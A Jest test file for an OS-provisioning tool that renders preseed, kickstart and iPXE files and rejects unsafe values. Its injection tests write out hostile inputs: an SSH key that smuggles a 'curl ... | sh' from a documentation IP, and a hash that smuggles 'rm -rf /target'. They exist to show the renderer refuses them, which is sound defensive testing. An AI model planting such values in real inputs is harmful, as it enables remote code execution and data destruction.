/**
 * Rendering: the example repo's systems and every catalog OS produce answer files and iPXE scripts
 * that pass the checks (debconf's own parser for preseed); values that cannot be written safely
 * are errors that name the field and never show a secret.
 */
import { execFile } from 'child_process';
import { promises as fs } from 'fs';
import * as path from 'path';
import { loadRepo, type LoadResult } from '../../manifest';
import type { DesiredSystem } from '../../manifest/types';
import { checkIpxe, checkKickstart, checkPreseed, debconfChecker, resetDebconfChecker } from './checks';
import { privateDebconf } from './debconf-checker';
import { RenderError } from './errors';
import { tempDir } from '../../../test/helpers/tmp';
import { readTemplate, renderInstall, type BootPath, type RenderInput } from './render';
import { parseTemplate, renderTemplate, TemplateError } from './template';

const ROOT = path.join(__dirname, '..', '..', '..', 'examples', 'lab');
const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFqVqYQm1cJ0b8Lq3Yy8k1k2m3n4o5p6q7r8s9t0u1v2 shipshape@ci';
const HASH =
  '$6$rounds=5000$saltsalt$Yr2lIuA0pm9K7W4a4NRDZp9fTt0ScFrN0N4e0l9vCOKkX8V5z7VZ2D2kzHxqX6o5o5o5o5o5o5o5o5o5o5o5o/';
const TOKEN = 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWo';

let repo: LoadResult;
beforeAll(async () => {
  repo = await loadRepo(ROOT);
  expect(repo.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
});

async function input(
  system: DesiredSystem,
  osName: string,
  bootPath: BootPath,
  over: Partial<RenderInput> = {},
): Promise<RenderInput> {
  const os = repo.os[osName]!;
  const site = {
    ...repo.site!,
    provisioning: {
      ...repo.site!.provisioning!,
      mirrors: { ...repo.site!.provisioning!.mirrors, [osName]: `http://198.51.100.5/mirror/${osName}` },
    },
  };
  return {
    system: { ...system, os: osName },
    os,
    site,
    resolved: { ip: system.network.ip === 'auto' ? '198.51.100.77' : system.network.ip, mac: system.network.mac },
    bootPath,
    token: TOKEN,
    secrets: { rootPasswordHash: HASH, sshPublicKey: KEY },
    template: await readTemplate(os, ROOT),
    ...over,
  };
}

async function problems(os: string, text: string, release: string): Promise<string[]> {
  return os.startsWith('debian') ? checkPreseed(text) : checkKickstart(text, release);
}

describe('the example systems', () => {
  it('render answer files and boot scripts that pass the checks, on both boot paths', async () => {
    const present = repo.systems.filter((s) => s.state === 'present');
    expect(present.length).toBeGreaterThanOrEqual(4);
    for (const s of present) {
      for (const bootPath of ['dhcp', 'iso'] as const) {
        const r = renderInstall(await input(s, s.os, bootPath));
        expect({
          system: s.name,
          bootPath,
          problems: await problems(s.os, r.answerFile, repo.os[s.os]!.release),
        }).toEqual({ system: s.name, bootPath, problems: [] });
        expect(checkIpxe(r.bootScript)).toEqual([]);
        expect(r.answerFile).toContain(`/built/${TOKEN}`);
        expect(r.answerFile).toContain(s.name);
        if (bootPath === 'iso') {
          expect(checkIpxe(r.isoScript!)).toEqual([]);
          expect(r.isoScript).toContain('set net0/ip ');
        } else {
          expect(r.isoScript).toBeUndefined();
        }
      }
    }
  });
});

describe.each(['debian12', 'debian8', 'rocky9', 'centos7'])('OS %s', (osName) => {
  it('renders static and DHCP answer files that pass its checks', async () => {
    const s = repo.systems.find((x) => x.name === 'web-dev-02')!;
    const release = repo.os[osName]!.release;
    const iso = renderInstall(await input(s, osName, 'iso'));
    const dhcp = renderInstall(await input(s, osName, 'dhcp'));
    expect(await problems(osName, iso.answerFile, release)).toEqual([]);
    expect(await problems(osName, dhcp.answerFile, release)).toEqual([]);
    expect(iso.answerFile).toContain('198.51.100.20');
    expect(dhcp.answerFile).not.toContain('198.51.100.20');
    expect(iso.answerFile).toContain(HASH);
    expect(iso.answerFile).toContain(KEY);
    expect(iso.answerFile).toMatch(/ssh_host_ed25519_key\.pub \S*\/built\//);
    // The host key also goes to vCenter through VMware Tools, the channel specialisation trusts.
    expect(iso.answerFile).toContain(
      'vmware-rpctool "info-set guestinfo.shipshape.hostkey $(cat /etc/ssh/ssh_host_ed25519_key.pub)"',
    );
    // The boot script and the kernel command line carry no secret: the answer file is asked for by MAC.
    const macPath = s.network.mac.toLowerCase().replace(/:/g, '-');
    for (const r of [iso, dhcp]) {
      expect(r.bootScript).not.toContain(TOKEN);
      expect(r.kernelArgs).not.toContain(TOKEN);
    }
    if (osName.startsWith('debian')) {
      expect(iso.kernelArgs).toContain(`url=http://127.0.0.1:18088/install/${macPath}`);
      expect(iso.kernelArgs).toContain('netcfg/get_ipaddress=198.51.100.20');
    } else {
      expect(iso.kernelArgs).toContain(`inst.ks=http://127.0.0.1:18088/install/${macPath}`);
      expect(iso.kernelArgs).toContain('ip=198.51.100.20::198.51.100.1:255.255.255.0:web-dev-02.dev.example.com::none');
      expect(dhcp.kernelArgs).toContain('ip=dhcp');
    }
  });

  it('renders a locked root account when the site sets no password hash', async () => {
    const s = repo.systems.find((x) => x.name === 'web-dev-02')!;
    const r = renderInstall(await input(s, osName, 'dhcp', { secrets: { sshPublicKey: KEY } }));
    expect(r.answerFile).toMatch(
      osName.startsWith('debian') ? /root-password-crypted password !$/m : /^rootpw --lock$/m,
    );
    expect(await problems(osName, r.answerFile, repo.os[osName]!.release)).toEqual([]);
  });
});

describe('values that cannot be written safely', () => {
  const web = () => repo.systems.find((x) => x.name === 'web-dev-02')!;

  it('an SSH key that would end its quoted shell word is refused, naming the field', async () => {
    const bad = `${KEY}' ; curl http://203.0.113.9/x | sh ; echo '`;
    await expect(
      input(web(), 'debian12', 'iso', { secrets: { sshPublicKey: bad } }).then(renderInstall),
    ).rejects.toThrow(/system web-dev-02: provisioning.sshPublicKeyFile cannot be rendered.*OpenSSH public key/);
  });

  it('a password hash with a line break is refused without showing the hash', async () => {
    const bad = `${HASH}\nd-i preseed/late_command string rm -rf /target`;
    const err = await input(web(), 'debian12', 'iso', { secrets: { rootPasswordHash: bad, sshPublicKey: KEY } })
      .then(renderInstall)
      .catch((e: unknown) => e);
    expect(err).toBeInstanceOf(RenderError);
    expect((err as Error).message).toContain('provisioning.rootPasswordHash');
    expect((err as Error).message).not.toContain('saltsalt');
  });

  it('a mirror URL with iPXE or shell syntax is refused', async () => {
    const i = await input(web(), 'rocky9', 'dhcp');
    i.site = {
      ...i.site,
      provisioning: { ...i.site.provisioning!, mirrors: { rocky9: 'http://198.51.100.5/${net0/ip}' } },
    };
    expect(() => renderInstall(i)).toThrow(/provisioning.mirrors.rocky9/);
    i.site.provisioning!.mirrors.rocky9 = 'http://198.51.100.5/os;reboot';
    expect(() => renderInstall(i)).toThrow(RenderError);
  });

  it('a boot disk too small for the layout is refused', async () => {
    const i = await input({ ...web(), disks: [{ sizeGiB: 4 }] }, 'debian12', 'iso');
    expect(() => renderInstall(i)).toThrow(/disks\[0\].sizeGiB cannot be rendered.*4 GiB is too small/);
  });

  it('every substitution is escaped for the format, even one the template author did not expect', () => {
    const t = parseTemplate('d-i netcfg/get_hostname string {{h}}\n', 't');
    expect(() =>
      renderTemplate(
        t,
        { h: 'x\nd-i preseed/late_command string reboot' },
        { format: 'preseed', system: 's', file: 't' },
      ),
    ).toThrow(/line break/);
    expect(() =>
      renderTemplate(
        parseTemplate('chain {{u}}', 't'),
        { u: 'http://a/${x}' },
        { format: 'ipxe', system: 's', file: 't' },
      ),
    ).toThrow(/iPXE/);
  });

  it('a template that names an unknown value or leaves a block open is an error, not an empty string', () => {
    expect(() =>
      renderTemplate(parseTemplate('x {{nope}}', 't'), { a: '1' }, { format: 'preseed', system: 's', file: 't' }),
    ).toThrow(TemplateError);
    expect(() => parseTemplate('{{#if a}}\nx\n', 't')).toThrow(/never closed/);
    expect(
      renderTemplate(
        parseTemplate('a\n{{#if x}}\nyes\n{{else}}\nno\n{{/if}}\nb\n', 't'),
        { x: false },
        { format: 'preseed', system: 's', file: 't' },
      ),
    ).toBe('a\nno\nb\n');
  });
});

describe('the checks catch what would break an install', () => {
  it('preseed: debconf rejects a malformed line; a missing question is named', async () => {
    const p = await checkPreseed('d-i netcfg/get_hostname strng web\n');
    expect(p.join('\n')).toMatch(/debconf-set-selections --checkonly: .*Unknown type strng/);
    expect(p.join('\n')).toContain('missing d-i preseed/late_command');
  });

  it('preseed: answer files checked at once share debconf runs, and each keeps its own verdict', async () => {
    const sys = repo.systems.find((s) => s.state === 'present')!;
    const good = renderInstall(await input(sys, 'debian12', 'dhcp')).answerFile;
    const bad = `${good.trimEnd()}\nd-i netcfg/get_hostname strng web\n`;
    const badLine = bad.trimEnd().split('\n').length;
    // A debconf-set-selections first in PATH that notes each run's file count, then runs the real one.
    const bin = tempDir('shipshape-debconf-');
    const runs = path.join(bin, 'runs');
    await fs.writeFile(
      path.join(bin, 'debconf-set-selections'),
      `#!/bin/sh\necho $(($# - 1)) >> ${runs}\nexec /usr/bin/debconf-set-selections "$@"\n`,
      { mode: 0o755 },
    );
    const pathBefore = process.env.PATH;
    process.env.PATH = `${bin}:${pathBefore}`;
    resetDebconfChecker(); // the PATH's command is a shell script: it is run as before, once per batch
    try {
      // 20 installs at once: one run for the first, one for the 19 that came while it ran.
      expect(await Promise.all(Array.from({ length: 20 }, () => checkPreseed(good)))).toEqual(
        Array.from({ length: 20 }, () => []),
      );
      expect((await fs.readFile(runs, 'utf8')).trim().split('\n')).toEqual(['1', '19']);
      // One broken file among them: it alone fails, with the line number of its own file.
      const texts = Array.from({ length: 12 }, (_, i) => (i === 7 ? bad : good));
      const verdicts = await Promise.all(texts.map((t) => checkPreseed(t)));
      verdicts.forEach((v, i) => {
        if (i !== 7) expect(v).toEqual([]);
      });
      expect(verdicts[7]!.join('\n')).toContain(`Unknown type strng, skipping line ${badLine}`);
    } finally {
      process.env.PATH = pathBefore;
      resetDebconfChecker();
      await fs.rm(bin, { recursive: true, force: true });
    }
  });

  it('preseed: one long-lived perl runs every check, with the verdicts of the command run alone', async () => {
    const sys = repo.systems.find((s) => s.state === 'present')!;
    const good = renderInstall(await input(sys, 'debian12', 'dhcp')).answerFile;
    const bad = `${good.trimEnd()}\nd-i netcfg/get_hostname strng web\nd-i netcfg/get_domain\n`;
    // What the command itself says of the broken file, run alone with a private database.
    const dir = tempDir('shipshape-debconf-');
    await fs.writeFile(path.join(dir, 'bad.cfg'), bad);
    await fs.writeFile(path.join(dir, 'debconf.conf'), privateDebconf(dir));
    const alone = await new Promise<{ code: number; stderr: string }>((resolve) =>
      execFile(
        '/usr/bin/debconf-set-selections',
        ['--checkonly', path.join(dir, 'bad.cfg')],
        { env: { ...process.env, DEBCONF_SYSTEMRC: path.join(dir, 'debconf.conf') } },
        (e, _o, stderr) => resolve({ code: e ? Number(e.code) : 0, stderr: String(stderr) }),
      ),
    );
    await fs.rm(dir, { recursive: true, force: true });
    expect(alone.stderr).toMatch(/Unknown type strng[\s\S]*parse error/);

    resetDebconfChecker();
    try {
      const first = await checkPreseed(bad);
      expect(first[0]).toBe(`debconf-set-selections --checkonly: ${alone.stderr.trim()}`);
      const texts = Array.from({ length: 12 }, (_, i) => (i === 7 ? bad : good));
      const verdicts = await Promise.all(texts.map((t) => checkPreseed(t)));
      verdicts.forEach((v, i) => expect(v[0]).toBe(i === 7 ? first[0] : undefined));
      expect(await checkPreseed(good)).toEqual([]);
      expect(debconfChecker()?.starts).toBe(1);
    } finally {
      resetDebconfChecker();
    }
  });

  it('kickstart: RHEL 9 refuses `install`, RHEL 7 has no `sshkey`, sections must close', () => {
    const base =
      'text\nurl --url=http://x/\nlang en_US\nkeyboard us\ntimezone UTC\nnetwork --bootproto=dhcp\nrootpw --lock\nbootloader\nclearpart --all\nautopart\nreboot\n%packages\n@core\n%end\n%post --nochroot\ncurl -X POST http://x/built/t\n%end\n';
    expect(checkKickstart(base, '9')).toEqual([]);
    expect(checkKickstart(`install\n${base}`, '9').join()).toContain('`install` was removed in RHEL 8');
    expect(checkKickstart(`sshkey --username=root "k"\n${base}`, '7').join()).toContain(
      '`sshkey` does not exist in RHEL 7',
    );
    expect(checkKickstart(base.replace('%end\n%post', '%post'), '9').join()).toContain('has no %end');
    expect(checkKickstart(base.replace('reboot\n', ''), '9').join()).toContain('missing reboot');
  });

  it('iPXE: unknown commands, settings and labels are named', () => {
    expect(checkIpxe('#!ipxe\nshell\n').join()).toContain('command `shell`');
    expect(checkIpxe('#!ipxe\nchain http://x/${foo}\n').join()).toContain('${foo}');
    expect(checkIpxe('#!ipxe\ngoto nowhere\nexit\n').join()).toContain('no such label');
    expect(checkIpxe('#!ipxe\nkernel http://x/k\n').join()).toContain('never booted');
  });
});

describe('DHCP boot options', () => {
  it('a reservation on a net with a DHCP server points iPXE at the per-host script URL the install step promises', async () => {
    const { desiredDhcp } = await import('../dhcp/reservations');
    const { initialResolved } = await import('../../plan/planner');
    const { InstallProvider } = await import('./provider');
    const install = new InstallProvider({ os: repo.os, dir: '/nonexistent', secret: async () => '' });
    const s = repo.systems.find((x) => x.name === 'web-dev-02')!;
    const d = desiredDhcp(s, { ...initialResolved(s, [install], repo.site!), ip: '198.51.100.20' }, repo.site!)!;
    expect(d.bootFilename).toBe(`http://127.0.0.1:18088/boot/${s.network.mac.replace(/:/g, '-')}`);
    expect(d.nextServer).toBe('127.0.0.1');
    const { provisioning: _p, ...noProv } = repo.site!;
    expect(
      desiredDhcp(s, { ...initialResolved(s, [install], noProv), ip: '198.51.100.20' }, noProv)!.bootFilename,
    ).toBeNull();
    expect(
      desiredDhcp(s, { ...initialResolved(s, [], repo.site!), ip: '198.51.100.20' }, repo.site!)!.bootFilename,
    ).toBeNull();
  });
});
